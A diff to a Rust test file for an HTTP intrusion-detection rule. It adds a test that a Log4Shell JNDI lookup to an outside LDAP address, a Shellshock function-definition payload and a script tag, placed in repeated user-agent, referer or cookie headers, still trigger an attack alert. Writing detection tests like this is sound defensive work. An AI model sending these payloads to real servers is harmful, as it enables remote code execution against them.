@@ -173,27 +173,43 @@ const FIELDS: &[(&str, &str, bool)] = &[
 #[test]
 fn an_attack_in_a_field_is_an_attempt() {
     for (name, value, is_attack) in FIELDS {
-        // Five: what is no attack adds up to nothing.
-        let events: Vec<Value> = (0..5)
-            .map(|n| {
-                json!({
-                    "@timestamp": format!("2026-11-24T10:00:{n:02}Z"),
-                    "event": {"kind": "event"},
-                    "http_trace": {"missing": []},
-                    "source": {"ip": "203.0.113.7"},
-                    "destination": {"ip": "10.0.0.2", "port": 80},
-                    "url": {"original": "/"},
-                    "http": {
-                        "request": {"method": "GET", "headers": {*name: [value]}},
-                        "response": {"status_code": 404},
-                    },
-                })
-            })
-            .collect();
-        let rules = alerts_of_events(&events);
-        let told = rules.iter().any(|rule| rule == "http-attack-attempts");
-        assert_eq!(told, *is_attack, "{name}: {value}: {rules:?}");
+        attempts(name, &[value], *is_attack);
     }
+}
+
+/// Servers take another of them than the first, or log all.
+#[test]
+fn an_attack_in_a_repeated_field_is_an_attempt() {
+    for name in ["user-agent", "referer", "cookie"] {
+        attempts(name, &["a=b", "${jndi:ldap://192.0.2.1/a}"], true);
+        attempts(name, &["a=b", "() { :; }; id"], true);
+    }
+    attempts("user-agent", &["a=b", "<script>f()</script>"], true);
+    attempts("user-agent", &["a=b", "c=d"], false);
+}
+
+/// Asserts that five requests with this field are attempts of attacks, or raise no alert of them.
+fn attempts(name: &str, values: &[&str], is_attack: bool) {
+    // Five: what is no attack adds up to nothing.
+    let events: Vec<Value> = (0..5)
+        .map(|n| {
+            json!({
+                "@timestamp": format!("2026-11-24T10:00:{n:02}Z"),
+                "event": {"kind": "event"},
+                "http_trace": {"missing": []},
+                "source": {"ip": "203.0.113.7"},
+                "destination": {"ip": "10.0.0.2", "port": 80},
+                "url": {"original": "/"},
+                "http": {
+                    "request": {"method": "GET", "headers": {name: values}},
+                    "response": {"status_code": 404},
+                },
+            })
+        })
+        .collect();
+    let rules = alerts_of_events(&events);
+    let told = rules.iter().any(|rule| rule == "http-attack-attempts");
+    assert_eq!(told, is_attack, "{name}: {values:?}: {rules:?}");
 }
 
 /// The rules above informational that a log raises.
